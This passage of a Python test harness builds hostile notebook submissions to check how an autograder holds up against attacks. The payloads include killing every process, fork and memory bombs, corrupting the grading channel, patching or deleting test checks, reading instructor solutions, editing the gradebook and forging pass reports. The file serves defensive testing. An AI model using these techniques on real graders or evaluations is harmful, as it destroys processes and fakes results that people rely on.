                if pid != os.getpid():
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            time.sleep(0.01)
        os._exit(0)
    os._exit(0)
time.sleep(1)
'''
FREEZE = "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"

CHANNEL_MALFORMED = '''
# protocol violations on the channel, written by hand to its pipe (found through gc; the same pipe is
# listed in /proc/self/fd): garbage, an unknown tag, replies to requests never made, a reply whose
# id is a 1 MB string, a callback to an object the grader never handed over, a truncated frame
import os
import struct
server = _zoo_channel()
if server is not None:
    def frame(payload):
        return struct.pack(">I", len(payload)) + payload
    def s(text):
        raw = text.encode()
        return b"s" + struct.pack("<I", len(raw)) + raw
    def d(*pairs):
        return b"d" + struct.pack("<I", len(pairs)) + b"".join(k + v for k, v in pairs)
    junk = [frame(os.urandom(64)), frame(b"Q" * 10),
            frame(d((s("op"), s("reply")), (s("id"), b"i" + struct.pack("<q", 10**9)),
                    (s("value"), b"f" + struct.pack("<d", 1.0)))),
            frame(d((s("op"), s("reply")), (s("id"), s("x" * 10**6)))),
            frame(d((s("op"), s("callback")), (s("id"), b"i" + struct.pack("<q", 1)),
                    (s("target"), b"K" + struct.pack("<Q", 987654) + struct.pack("<I", 1) + b"x"),
                    (s("args"), b"l" + struct.pack("<I", 0)), (s("kwargs"), b"d" + struct.pack("<I", 0)))),
            frame(b"l" + struct.pack("<I", 2**31))]
    for raw in junk:
        _zoo_write_all(server.cout, raw)
'''

CHANNEL_OVERSIZED = '''
# a frame header announcing 2 GB, then nothing: the grader must not wait for it forever
import os
server = _zoo_channel()
if server is not None:
    _zoo_write_all(server.cout, (2**31 - 1).to_bytes(4, "big") + b"a")
'''

CHANNEL_FLOOD = '''
# an endless stream of well-formed requests (a thread that never stops)
import os
import struct
import threading
server = _zoo_channel()
if server is not None:
    def flood():
        msg = b"d" + struct.pack("<I", 2) + b"s" + struct.pack("<I", 2) + b"op" + b"s" + struct.pack("<I", 7) + \\
            b"cbapply" + b"s" + struct.pack("<I", 2) + b"id" + b"i" + struct.pack("<q", 424242)
        raw = struct.pack(">I", len(msg)) + msg
        while True:
            try:
                os.write(server.cout, raw * 100)
            except BlockingIOError:
                pass
            except OSError:
                return
    threading.Thread(target=flood, daemon=True).start()
    import time
    time.sleep(30)
'''

CHANNEL_CLOSE = '''
# the process stops reading its input: closes it (and never answers this call)
import os
import time
server = _zoo_channel()
if server is not None:
    os.close(server.cin)
    time.sleep(30)
'''

CHANNEL_DEAF = '''
# the process answers this call, then never reads its input again: the channel stays open (a copy
# of its read end is kept), its loop reads an empty pipe of its own; the grader's next requests
# fill a pipe nobody reads
import os
server = _zoo_channel()
if server is not None:
    _zoo_keep = os.dup(server.cin)
    server.cin = os.pipe()[0]
'''

CHANNEL_WARNINGS = '''
# every later reply of this process carries 20 warnings of 1000 characters each (reissued by the
# grader): if the grader printed them where nobody reads, it would block
server = _zoo_channel()
if server is not None:
    send = server.send

    def send_with_warnings(msg, _send=send):
        if isinstance(msg, dict) and msg.get("op") == "reply":
            msg = dict(msg, warnings=[["UserWarning", ("%d " % i) + "w" * 990, "<zoo>", i] for i in range(20)])
        return _send(msg)
    server.send = send_with_warnings
'''

CHANNEL_HUGE = '''
# replies as large as the channel allows (120 MB), three times
import numpy
if _zoo_calls[0] <= 3:
    return numpy.ones(15 * 2**20)
'''

HANDOVER_INTROSPECTION = '''
# Reach through the objects the test handed over (functions, decoders, toy models) to the test's
# namespace: Python attributes first, then the same names asked for directly on the channel.
_zoo_handed = [v for v in list(locals().values()) if callable(v) or hasattr(v, "forward")]
_zoo_names = ("__globals__", "__closure__", "__code__", "__defaults__", "__kwdefaults__", "__dict__", "__self__",
              "__func__", "__wrapped__", "__class__", "__module__", "__builtins__", "_parameters", "_modules",
              "_forward_hooks", "__reduce_ex__", "register_forward_hook", "load_state_dict", "apply", "cpu",
              "__getattribute__", "__init__", "f_globals", "f_back", "gi_frame", "func_globals", "tb_frame")
_zoo_reached = []
for _zoo_obj in _zoo_handed:
    for _zoo_start in (_zoo_obj, getattr(_zoo_obj, "forward", None)):
        for _zoo_name in _zoo_names:
            try:
                _zoo_value = getattr(_zoo_start, _zoo_name)
            except Exception:
                continue
            _zoo_reached.append(_zoo_value)
            if isinstance(_zoo_value, dict):
                _zoo_patch_dict(_zoo_value)
            if _zoo_name == "__func__":
                _zoo_patch_dict(getattr(_zoo_value, "__globals__", None))
    try:
        import inspect
        _zoo_reached.append(inspect.getsource(_zoo_obj))
    except Exception:
        pass
    try:
        import gc
        for _zoo_ref in gc.get_referents(_zoo_obj):
            _zoo_patch_dict(_zoo_ref)
    except Exception:
        pass
_zoo_server = _zoo_channel()
if _zoo_server is not None:  # the grader's objects by raw requests, bypassing the local refusal
    for _zoo_obj in _zoo_handed:
        for _zoo_name in _zoo_names + ("forward",):
            try:
                _zoo_reached.append(_zoo_server.request({"op": "cbgetattr", "target": _zoo_obj, "name": _zoo_name}))
            except Exception:
                pass
    _zoo_callback = type(_zoo_server).dispatch.__globals__["Callback"]  # the server's own class (it runs as __main__)
    for _zoo_ref in range(1, 40):  # every object the grader ever handed over in this notebook
        _zoo_cb = _zoo_callback(_zoo_server, _zoo_ref, "guess")
        for _zoo_name in ("__globals__", "f_globals", "__dict__"):
            try:
                _zoo_reached.append(_zoo_server.request({"op": "cbgetattr", "target": _zoo_cb, "name": _zoo_name}))
            except Exception:
                pass
for _zoo_value in _zoo_reached:
    if isinstance(_zoo_value, dict):
        _zoo_patch_dict(_zoo_value)
'''

HANDOVER_MUTATION = '''
# change the objects the test handed over, in place: parameters zeroed, modes flipped, methods
# replaced, so that what the test computes with them afterwards agrees with a wrong answer
for _zoo_obj in list(locals().values()):
    if not (callable(_zoo_obj) or hasattr(_zoo_obj, "forward")):
        continue
    for _zoo_action in (lambda o: o.train(False), lambda o: o.eval(), lambda o: o.requires_grad_(False),
                        lambda o: [p.data.zero_() for p in o.parameters()],
                        lambda o: [t.zero_() for t in o.state_dict().values()],
                        lambda o: o.load_state_dict({k: v * 0 for k, v in o.state_dict().items()}),
                        lambda o: setattr(o, "forward", lambda *a, **k: None),
                        lambda o: object.__setattr__(o, "forward", lambda *a, **k: None),
                        lambda o: setattr(o, "__call__", lambda *a, **k: None),
                        lambda o: o.__dict__.clear()):
        try:
            _zoo_action(_zoo_obj)
        except Exception:
            pass
'''

CALLBACK_HANDLES = '''
# hand the test's callables objects of ours (not data): if the grader ran any of their methods in its
# own process, they would patch its checks
class ZooProbe:
    shape = (3,)
    ndim = 1
    dtype = "float64"

    def _hit(self):
        _zoo_patch_frames(_zoo_sys._getframe(2))

    def __array__(self, *args, **kwargs):
        self._hit()
        import numpy
        return numpy.zeros(3)

    def __len__(self):
        self._hit()
        return 3

    def __getitem__(self, key):
        self._hit()
        return self

    def __float__(self):
        self._hit()
        return 0.0

    def __index__(self):
        self._hit()
        return 3

    def __iter__(self):
        self._hit()
        return iter([0.0, 0.0, 0.0])

    def __mul__(self, other):
        self._hit()
        return self
    __rmul__ = __add__ = __radd__ = __sub__ = __rsub__ = __matmul__ = __rmatmul__ = __truediv__ = __mul__

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        _zoo_patch_frames(_zoo_sys._getframe(1))
        return NotImplemented

for _zoo_obj in list(locals().values()):
    if callable(_zoo_obj) or hasattr(_zoo_obj, "forward"):
        for _zoo_args in ((ZooProbe(),), (ZooProbe(), ZooProbe()), (3, ZooProbe()), (ZooProbe(), 3)):
            try:
                _zoo_obj(*_zoo_args)
            except Exception:
                pass
'''

CALLBACK_MEMORY = '''
# make the grader allocate: huge inputs to its callables, and (06) an object of ours whose .shape
# says 400 million rows, which a decoder may expand() for free and the grader must then copy
import numpy as _zoo_np
class ZooShape:
    shape = (4 * 10**8, 2)
for _zoo_obj in list(locals().values()):
    if callable(_zoo_obj) or hasattr(_zoo_obj, "forward"):
        for _zoo_args in ((_zoo_np.zeros(16_000), _zoo_np.zeros(16_000)), (10**10, _zoo_np.random.default_rng(0)),
                          (ZooShape(),)):
            try:
                _zoo_obj(*_zoo_args)
            except Exception:
                pass
        try:
            import torch
            _zoo_obj(torch.zeros(3 * 10**6, getattr(_zoo_obj, "latent_dim", 2)))
        except Exception:
            pass
'''

CALLBACK_CPU = '''
# keep the grader busy: call its functions on large inputs, forever
import numpy as _zoo_np
import time as _zoo_time
_zoo_handed = [v for v in list(locals().values()) if callable(v) or hasattr(v, "forward")]
_zoo_t0 = _zoo_time.monotonic()
while _zoo_time.monotonic() - _zoo_t0 < 60:
    for _zoo_obj in _zoo_handed:
        try:
            _zoo_obj(_zoo_np.zeros(3000), _zoo_np.zeros(3000))
        except Exception:
            pass
        try:
            import torch
            _zoo_obj(torch.zeros(10**5, getattr(_zoo_obj, "latent_dim", 2)))
        except Exception:
            pass
'''

BYSTANDER_THREADS = '''
# an honest classmate whose code uses a thread (a worker pool), as students' code may
import concurrent.futures as _zoo_futures
with _zoo_futures.ThreadPoolExecutor(1) as _zoo_pool:
    return _zoo_pool.submit(lambda: __RIGHT__).result()
'''


def _build_c_read(nb, ctx):
    body = READ_FILES.replace("__C_READERS__", C_READERS.strip())
    return answer_build(body=body.replace("__CALL__", ctx.target.call))(nb, ctx)


def _build_read(nb, ctx):
    body = READ_FILES.replace("    __C_READERS__", "")
    return answer_build(body=body.replace("__CALL__", ctx.target.call))(nb, ctx)


def _build_frame_forgery(nb, ctx):
    prelude = FRAME_FORGERY.replace("__HIDDEN_LINES__", repr(ctx.hidden_lines[:8]))
    return answer_build(prelude=prelude, body="raise ValueError('zoo: a failure whose frames are forged')")(nb, ctx)


def _build_exfiltration(nb, ctx):
    return answer_build(body=HIDDEN_EXFILTRATION.replace("__CALL__", ctx.target.call))(nb, ctx)


def _target_tests(nb, ctx) -> list:
    """The test cells of the target's exercise, in the submitted notebook."""
    return [c for c in nb.cells if nbgrader_meta(c).get("grade") and not nbgrader_meta(c).get("solution")
            and nbgrader_meta(c).get("grade_id") in ctx.target_tests]


def _build_edit_tests(nb, ctx):
    nb = answer_build()(nb, ctx)
    for cell in _target_tests(nb, ctx):
        cell.source = "pass"
    return nb


def _build_delete_tests(nb, ctx):
    nb = answer_build()(nb, ctx)
    gone = {id(c) for c in _target_tests(nb, ctx)}
    nb.cells = [c for c in nb.cells if id(c) not in gone]
    return nb


def _build_retag_tests(nb, ctx):
    """The exercise's tests become answer cells of the student (source `pass`), and worth 0 points."""
    nb = answer_build()(nb, ctx)
    for cell in _target_tests(nb, ctx):
        meta = cell.metadata.nbgrader
        meta.update(solution=True, grade=False, locked=False, points=0)
        cell.source = "pass"
    return nb


def _build_edit_plain(nb, ctx):
    nb = answer_build()(nb, ctx)
    first = next(c for c in nb.cells if c.cell_type == "code" and not nbgrader_meta(c))
    first.source += ("\nimport dgm_utils.checks\nfor _n in ('assert_close', 'assert_shape', 'assert_finite', "
                     "'assert_mean', 'assert_frequencies'):\n    setattr(dgm_utils.checks, _n, lambda *a, **k: None)\n")
    return nb


def _build_add_cells(nb, ctx):
    """A new code cell before each of the exercise's tests patches the checks."""
    nb = answer_build()(nb, ctx)
    patch = ("import dgm_utils.checks\nfor _n in ('assert_close', 'assert_shape', 'assert_finite', 'assert_mean', "
             "'assert_frequencies'):\n    setattr(dgm_utils.checks, _n, lambda *a, **k: None)\n"
             "    globals()[_n] = lambda *a, **k: None\n")
    cells = []
    for cell in nb.cells:
        if cell in _target_tests(nb, ctx):
            cells.append(nbformat.v4.new_code_cell(patch))
        cells.append(cell)
    nb.cells = cells
    return nb


def _build_corrupt(nb, ctx):
    return nbformat.writes(nb)[:5000].encode()


def _build_oversized(nb, ctx):
    """The perfect notebook with 25 MB of metadata (the grader reads at most 20 MB)."""
    nb.metadata["zoo_padding"] = "p" * (25 * 2**20)
    return nb


def _build_deep_json(nb, ctx):
    """A notebook whose metadata nests 200,000 lists deep (a JSON parser recursing on it overflows)."""
    text = nbformat.writes(nb)
    head, tail = text.split('"metadata": {', 1)
    return (head + '"metadata": {"zoo": ' + "[" * 200_000 + "]" * 200_000 + ", " + tail).encode()


def _build_symlink(nb, ctx):
    """The submitted file is a symbolic link to the instructor's notebook (written by build_zoo)."""
    return ctx.course / "solutions" / ctx.assignment / f"{ctx.assignment}.ipynb"



ATTACKS: list[Attack] = [
    # --- the kernel's own hooks (a plain Jupyter kernel runs the tests through them)
    Attack("custom_exc", "IPython set_custom_exc swallows every later exception", "wrong-answer",
           answer_build(prelude=IPYTHON_CUSTOM_EXC)),
    Attack("showtraceback", "IPython showtraceback and sys.excepthook replaced: errors print nothing",
           "wrong-answer", answer_build(prelude=IPYTHON_SHOWTRACEBACK)),
    Attack("input_transformer", "an IPython input transformer turns every later cell that asserts into `pass`",
           "wrong-answer", answer_build(prelude=IPYTHON_INPUT_TRANSFORMER)),
    Attack("ast_transformer", "an IPython AST transformer deletes asserts, raises and check calls",
           "wrong-answer", answer_build(prelude=IPYTHON_AST_TRANSFORMER)),
    Attack("ipython_events", "pre_run_cell / pre_execute callbacks patch the checks before every cell",
           "wrong-answer", answer_build(prelude=IPYTHON_EVENTS)),
    # --- reaching the test's namespace from inside the process
    Attack("frame_walk", "sys._getframe(1) and every thread's frames: patches the caller's checks, "
           "steals its reference value (_ref)", "wrong-answer", answer_build(body=FRAME_WALK)),
    Attack("global_rebind", "`global assert_close` and globals()[...] rebound from inside the function",
           "wrong-answer", answer_build(body=GLOBAL_REBIND)),
    Attack("signal_handler", "a SIGALRM handler every 5 ms patches the globals of the frame it interrupts",
           "wrong-answer", answer_build(prelude=SIGNAL_HANDLER)),
    Attack("c_thread", "a thread whose target is a C function (deque.extend over starmap(sys._current_frames)) "
           "writes no-op checks into every frame's globals", "wrong-answer", answer_build(prelude=C_THREAD)),
    Attack("gc_scan", "gc.get_objects(): patches every dict holding a check, steals any _ref",
           "wrong-answer", answer_build(body=GC_SCAN)),
    Attack("sys_modules", "sys.modules['dgm_utils.checks'] and builtins.__import__ replaced by a fake",
           "wrong-answer", answer_build(prelude=SYS_MODULES)),
    Attack("monkeypatch_top", "top level: dgm_utils.checks, np.allclose, math.isclose, torch.allclose patched",
           "wrong-answer", answer_build(prelude=MONKEYPATCH)),
    Attack("monkeypatch_in_function", "inside the function: setattr, object.__setattr__ and vars(module) "
           "patches of the checks, numpy and torch", "wrong-answer", answer_build(body=MONKEYPATCH_IN_FUNCTION)),
    # --- the values handed back and forth
    Attack("inplace_nan", "poisons the caller's input arrays with nan in place and returns nan (a reference "
           "computed after the call from the same arrays becomes nan too)", "wrong-answer",
           answer_build(body=INPLACE_NAN)),
    Attack("return_subclass", "returns the wrong answer as a float/int/ndarray subclass whose operators patch "
           "the caller's checks", "wrong-answer",
           answer_build(prelude=SUBCLASS, body="return _zoo_disguise(__WRONG__)")),
    Attack("hostile_object", "returns an object that is not data: __array__, __float__, __eq__, __len__... "
           "patch the caller's checks", "wrong-answer", answer_build(prelude=HOSTILE_OBJECT,
                                                                     body="return ZooValue(__WRONG__)")),
    Attack("hostile_exception", "raises a FloatingPointError subclass whose __str__ and __repr__ patch "
           "the checks and return 1 MB", "wrong-answer", answer_build(prelude=HOSTILE_EXCEPTION,
                                                                      body="raise ZooError()")),
    Attack("feedback_injection", "raises an exception whose message is HTML/script and a fake score, and whose "
           "class name says all tests passed", "wrong-answer", answer_build(body=FEEDBACK_INJECTION)),
    Attack("hidden_exfiltration", "raises in every call, with the inputs it received encoded in the exception's "
           "class name and the function's name (what a hidden test passes would reach the feedback)",
           "wrong-answer", _build_exfiltration),
    Attack("frame_forgery", "fails with error reports whose frames point at the lines of the exercise's hidden "
           "tests (<plain-cell-N>, line k), for a grader that prints each frame's source line", "wrong-answer",
           _build_frame_forgery),
    Attack("stop_iteration", "raises StopIteration (a caller iterating over the results would stop early)",
           "wrong-answer", answer_build(body=STOP_ITERATION)),
    # --- files and the gradebook
    Attack("read_solutions", "reads the instructor's notebook or a classmate's submission (open, cat, os.popen, "
           "!cat) and runs the answer found there", "wrong-answer", _build_read),
    Attack("c_level_read", "the same with torch.from_file, numpy.fromfile, mmap, libc read() and raw os.read",
           "wrong-answer", _build_c_read),
    Attack("write_gradebook", "sqlite: full manual scores and extra credit for itself in gradebook.db",
           "wrong-answer", answer_build(body=WRITE_GRADEBOOK)),
    Attack("symlink_submission", "the submitted file is a symlink to solutions/<assignment>/<assignment>.ipynb",
           "wrong-answer", _build_symlink, exercise="*"),
    # --- the notebook file
    Attack("edit_test_cells", "the exercise's test cells rewritten to `pass`", "wrong-answer", _build_edit_tests),
    Attack("delete_test_cells", "the exercise's test cells deleted", "wrong-answer", _build_delete_tests),
    Attack("retag_test_cells", "the exercise's test cells re-tagged as answer cells worth 0 points, source `pass`",
           "wrong-answer", _build_retag_tests),
    Attack("edit_plain_cell", "the instructor's import cell patches the checks", "wrong-answer", _build_edit_plain),
    Attack("add_cells", "a new cell before each test of the exercise patches the checks", "wrong-answer",
           _build_add_cells),
    Attack("forge_report", "prints and writes fake per-cell 'ok' records to stdout, stderr and the channel",
           "wrong-answer", answer_build(body=FORGE_REPORT)),
    Attack("corrupt_notebook", "the submitted file is truncated JSON", "abuse", _build_corrupt, exercise="*"),
    Attack("oversized_notebook", "the perfect notebook padded to 25 MB", "abuse", _build_oversized, exercise="*"),
    Attack("deep_json", "the perfect notebook with 200,000 nested lists in its metadata", "abuse", _build_deep_json,
           exercise="*"),
    # --- crashing, hanging, exhausting (right answers)
    Attack("os_exit", "os._exit(0) on the first call", "abuse", answer_build(body=_first_call(OS_EXIT), right=True)),
    Attack("infinite_loop", "`while True: pass` on the first call", "abuse",
           answer_build(body=_first_call(INFINITE_LOOP), right=True)),
    Attack("swallow_interrupt", "ignores SIGINT/SIGTERM/SIGHUP/SIGALRM and loops catching BaseException",
           "abuse", answer_build(body=_first_call(SWALLOW_INTERRUPT), right=True),
           plain_nbgrader="the kernel never answers again: every later cell waits for its timeout"),
    Attack("freeze", "SIGSTOP to itself on the first call", "abuse", answer_build(body=_first_call(FREEZE), right=True),
           plain_nbgrader="the kernel never answers again: every later cell waits for its timeout"),
    Attack("huge_output", "prints 32 MB (stdout and stderr) on the first call", "abuse",
           answer_build(body=_first_call(HUGE_OUTPUT), right=True)),
    Attack("memory_bomb", "allocates and touches 3 GiB on the first call", "abuse",
           answer_build(body=_first_call(MEMORY_BOMB), right=True)),
    Attack("memfd_hoard", "holds 2.5 GB in memfd files (not address space) for 2 s on the first call", "abuse",
           answer_build(body=_first_call(MEMFD_HOARD), right=True)),
    Attack("fill_scratch_disk", "fills its temporary folder and /dev/shm (256 MB each at most) on the first call",
           "abuse", answer_build(body=_first_call(FILL_SCRATCH_DISK), right=True)),
    Attack("fork_bomb", "forks up to 1000 sleeping processes when its answer cell runs; a classmate whose code uses "
           "a thread is graded at the same time", "abuse", answer_build(prelude=FORK_BOMB, right=True)),
    Attack("kill_everything", "a forked daemon (new session) sends SIGKILL to kill(-1) and to every pid in /proc "
           "for 3 s", "abuse", answer_build(body=_first_call(KILL_EVERYTHING), right=True),
           plain_nbgrader="unsafe: kill(-1) as the grading user"),
    # --- the channel, written to by hand
    Attack("channel_malformed", "writes garbage, unknown tags, replies to requests never made, a 1 MB id, a "
           "callback to a guessed object and a truncated frame to its channel pipe", "abuse",
           answer_build(body=_first_call(CHANNEL_MALFORMED), right=True)),
    Attack("channel_oversized", "writes a frame header announcing 2 GB, then nothing", "abuse",
           answer_build(body=_first_call(CHANNEL_OVERSIZED), right=True)),
    Attack("channel_flood", "a thread writes well-formed requests to the channel without end", "abuse",
           answer_build(body=_first_call(CHANNEL_FLOOD), right=True)),
    Attack("channel_close", "closes its channel input and never answers", "abuse",
           answer_build(body=_first_call(CHANNEL_CLOSE), right=True)),
    Attack("channel_deaf", "answers its first call, then never reads its channel input again (kept open)",
           "abuse", answer_build(body=_first_call(CHANNEL_DEAF), right=True)),
    Attack("channel_warnings", "every later reply carries 20 warnings of 1000 characters", "abuse",
           answer_build(prelude=f"def _zoo_install():\n{textwrap.indent(CHANNEL_WARNINGS, '    ')}\n_zoo_install()",
                        right=True)),
    Attack("channel_huge", "returns 120 MB arrays (the largest message the grader accepts) on its first 3 calls",
           "abuse", answer_build(body="_zoo_calls[0] += 1\n" + CHANNEL_HUGE, right=True)),
    # --- what the tests hand to student code (callables, decoders, toy models)
    Attack("handover_introspection", "__globals__, __closure__, __code__, __dict__, __self__... of the objects the "
           "test hands over, by attribute and by raw channel request; every handed-over object by guessed id",
           "wrong-answer", answer_build(body=HANDOVER_INTROSPECTION), notebooks=HANDOVER_NOTEBOOKS,
           target="handover"),
    Attack("handover_mutation", "zeroes the parameters of the handed-over models, flips their modes, replaces "
           "their forward", "wrong-answer", answer_build(body=HANDOVER_MUTATION), notebooks=HANDOVER_NOTEBOOKS,
           target="handover"),
    Attack("callback_handles", "passes objects of its own (hostile __array__, __len__, __torch_function__...) to "
           "the test's callables", "wrong-answer", answer_build(body=CALLBACK_HANDLES), notebooks=HANDOVER_NOTEBOOKS,
           target="handover"),
    Attack("callback_memory", "calls the test's callables with huge inputs (a 16000 x 16000 table, 10^10 samples, an "
           "object whose .shape is 4e8 rows)", "abuse", answer_build(body=_first_call(CALLBACK_MEMORY), right=True),
           notebooks=HANDOVER_NOTEBOOKS, target="handover"),
    Attack("callback_cpu", "calls the test's callables on large inputs without end", "abuse",
           answer_build(body=_first_call(CALLBACK_CPU), right=True), notebooks=HANDOVER_NOTEBOOKS, target="handover"),
    # --- torch
    Attack("tensor_subclass", "returns a torch.Tensor subclass whose __torch_function__ patches the checks and "
           "says every comparison is close", "wrong-answer",
           answer_build(prelude=TENSOR_SUBCLASS, body="return __WRONG__.as_subclass(ZooTensor)"),
           notebooks=("06_vae_sampler",)),
    Attack("torch_monkeypatch", "torch.allclose, Tensor.allclose, torch.logdet and the log_prob of Normal, "
           "MultivariateNormal and Independent patched at top level", "wrong-answer",
           answer_build(prelude=TORCH_MONKEYPATCH), notebooks=("06_vae_sampler",)),
]

BY_NAME = {a.name: a for a in ATTACKS}
BYSTANDER = "fork_bomb_bystander"  # sorts right after fork_bomb: they are graded at the same time


def applicable(notebook: str) -> list[str]:
    """Names of the attacks that apply to ``notebook`` (the full matrix of bench/zoo.py)."""
    return [a.name for a in ATTACKS if notebook in a.notebooks and
            (a.target != "handover" or notebook in HANDOVER_TARGETS)]


# ----------------------------------------------------------------------------- building a zoo

@dataclasses.dataclass
class Zoo:
    """The submissions of one zoo: student -> attack (None for the honest, control and bystander
    students); controls: target key -> control student; bystanders: honest classmates that use
    threads; tests: exercise grade_id -> its test cells' grade_ids."""

    assignment: str
    attacks: dict[str, Attack | None]
    controls: dict[str, str]
    bystanders: list[str]
    tests: dict[str, list[str]]

    @property
    def students(self) -> list[str]:
        return sorted(self.attacks)


def exercise_tests(source_nb, release_nb, assignment: str) -> dict[str, list[str]]:
    """{exercise grade_id: grade_ids of its test cells} (a test belongs to the answer above it)."""
    from dgm_course.plan import build_plan

    out: dict[str, list[str]] = {}
    for cell in build_plan(source_nb, release_nb, None, assignment).cells:
        if cell.kind == "test":
            out.setdefault(cell.exercise, []).append(cell.grade_id)
    return out


def build_zoo(course: str | os.PathLike, assignment: str, names: list[str] | None = None) -> Zoo:
    """Write the honest student, the control(s), the bystander (with fork_bomb) and every attack
    of ``names`` (default: all that apply) under ``course/submitted/``."""
    from dgm_course.plan import hidden_line_numbers

    course = Path(course)
    release = read_notebook(course / "course" / assignment / f"{assignment}.ipynb")
    source = read_notebook(course / "solutions" / assignment / f"{assignment}.ipynb")
    perfect = fill_answers(release, source)
    tests = exercise_tests(source, release, assignment)
    chosen = [BY_NAME[n] for n in (names if names is not None else applicable(assignment))]
    for attack in chosen:
        assert assignment in attack.notebooks, f"{attack.name} does not apply to {assignment}"
    zoo = Zoo(assignment, {}, {}, [], tests)

    def write(student: str, out) -> None:
        folder = course / "submitted" / student / assignment
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"{assignment}.ipynb"
        if path.exists() or path.is_symlink():
            path.unlink()
        if isinstance(out, Path):
            path.symlink_to(out)
        elif isinstance(out, bytes):
            path.write_bytes(out)
        else:
            nbformat.write(out, str(path))

    def ctx(student: str, target: Target) -> Ctx:
        ids = tests.get(target.exercise, [])
        hidden = [(i, n) for i, c in enumerate(source.cells) if nbgrader_meta(c).get("grade_id") in ids
                  for n in hidden_line_numbers(c.source)]
        return Ctx(course, assignment, student, target, perfect, ids, hidden)

    write("honest", perfect)
    zoo.attacks["honest"] = None
    for attack in chosen:
        target = attack.target_of(assignment)
        if attack.kind == "wrong-answer" and target.key not in zoo.controls:
            student = "control" if attack.target == "default" else "control_" + attack.target
            write(student, answer_build()(nbformat.from_dict(json.loads(json.dumps(perfect))), ctx(student, target)))
            zoo.attacks[student] = None
            zoo.controls[target.key] = student
        nb = nbformat.from_dict(json.loads(json.dumps(perfect)))
        write(attack.name, attack.build(nb, ctx(attack.name, target)))
        zoo.attacks[attack.name] = attack
        if attack.name == "fork_bomb":
            target0 = TARGETS[assignment]
            write(BYSTANDER, answer_build(body=BYSTANDER_THREADS, right=True)(
                nbformat.from_dict(json.loads(json.dumps(perfect))), ctx(BYSTANDER, target0)))
            zoo.attacks[BYSTANDER] = None
            zoo.bystanders.append(BYSTANDER)
    return zoo


# ----------------------------------------------------------------------------- grading a zoo

@dataclasses.dataclass
class Graded:
    """One grader's results for a zoo: scores {student: {grade_id: auto score}} (test cells
    only), wall seconds, and per-student notes (status, flags, or why a student has no grade)."""

    grader: str
    scores: dict[str, dict[str, float]]
    seconds: float
    notes: dict[str, str] = dataclasses.field(default_factory=dict)
    not_run: set[str] = dataclasses.field(default_factory=set)


def _test_scores(course: Path, assignment: str, test_ids: set[str]) -> dict[str, dict[str, float]]:
    from dgm_course.gradebook import read_scores
    from dgm_course.layout import Course

    c = Course(course)
    raw = read_scores(c.db_url, c.course_id, assignment)
    # plain nbgrader: the score (manual if set, else auto); dgm-course never sets manual scores on tests
    return {student: {g: float(s[0] if s[0] is not None else (s[1] or 0)) for g, s in cells.items() if g in test_ids}
            for student, cells in raw.items()}


NBGRADER_FEEDBACK = "feedback_nbgrader"  # nbgrader generate_feedback's pages of dgm-course's autograded notebooks
def grade_dgm(course: Path, zoo: Zoo, limits, jobs: int = 2, log=print) -> Graded:
    """Grade the zoo with ``dgm_course.coordinator.autograde``; generate dgm-course's feedback, and
    nbgrader's from the same autograded notebooks (into NBGRADER_FEEDBACK)."""
    from dgm_course.coordinator import autograde
    from dgm_course.feedback import generate_feedback
    from dgm_course.layout import Course

    t0 = time.monotonic()
    rows = autograde(Course(course), zoo.assignment, jobs=jobs, limits=limits, progress=False, log=log)
    seconds = time.monotonic() - t0
    generate_feedback(Course(course), zoo.assignment)
    # nbgrader's own route to feedback on the same autograded notebooks (nbgrader_config.py sets it up with
    # ClearHiddenTests; the formgrader's "generate feedback" button takes it), written next to dgm-course's
    bin_dir = Path(sys.executable).parent
    subprocess.run([str(bin_dir / "nbgrader"), "generate_feedback", zoo.assignment, "--force",
                    f"--CourseDirectory.feedback_directory={NBGRADER_FEEDBACK}"], cwd=course,
                   env=dict(os.environ, PATH=f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}"),
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=600, check=False)
    test_ids = {g for ids in zoo.tests.values() for g in ids}
    graded = Graded("dgm-course", _test_scores(course, zoo.assignment, test_ids), seconds)
    for row in rows:
        flags = f"; {len(row.flags)} flag(s): {row.flags[0][:80]}" if row.flags else ""
        graded.notes[row.student] = row.status + flags
    return graded


def _kill_tree(pid: int) -> None:
    """SIGKILL a process and its descendants (nbgrader starts kernels in new sessions)."""
    children: dict[int, list[int]] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
            children.setdefault(int(fields[1]), []).append(int(stat.parent.name))
        except (OSError, IndexError, ValueError):
            continue
    todo, victims = [pid], []
    while todo:
        p = todo.pop()
        victims.append(p)
        todo += children.get(p, [])
    for p in victims:
        try:
            os.kill(p, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            pass


def grade_plain(course: Path, zoo: Zoo, cell_timeout: int = 10, jobs: int = 2, chunk: int = 6,
                seconds_per_student: float = 60.0) -> Graded:
    """Grade the zoo with plain ``nbgrader autograde`` (student code and tests in one kernel, as the
    grading user, no sandbox): students in chunks, ``jobs`` nbgrader processes at a time; a chunk that
    runs out of time is killed and its ungraded students are retried one by one. Attacks with a
    ``plain_nbgrader`` reason are not run."""
    from concurrent.futures import ThreadPoolExecutor

    bin_dir = Path(sys.executable).parent
    env = dict(os.environ, PATH=f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")
    unsafe = {s: a.plain_nbgrader for s, a in zoo.attacks.items() if a is not None and a.plain_nbgrader}
    students = [s for s in zoo.students if s not in unsafe]
    done = lambda s: (course / "autograded" / s / zoo.assignment / f"{zoo.assignment}.ipynb").exists()  # noqa: E731
    timed_out: set[str] = set()

    def run(group: list[str]) -> None:
        others = [s for s in zoo.students if s not in group]
        proc = subprocess.Popen([str(bin_dir / "nbgrader"), "autograde", zoo.assignment,
                                 f"--Execute.timeout={cell_timeout}",
                                 f"--CourseDirectory.student_id_exclude={','.join(others)}"],
                                cwd=course, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                start_new_session=True)
        try:
            proc.wait(timeout=30 + seconds_per_student * len(group))
        except subprocess.TimeoutExpired:
            _kill_tree(proc.pid)
            proc.wait()
            timed_out.update(s for s in group if not done(s))

    t0 = time.monotonic()
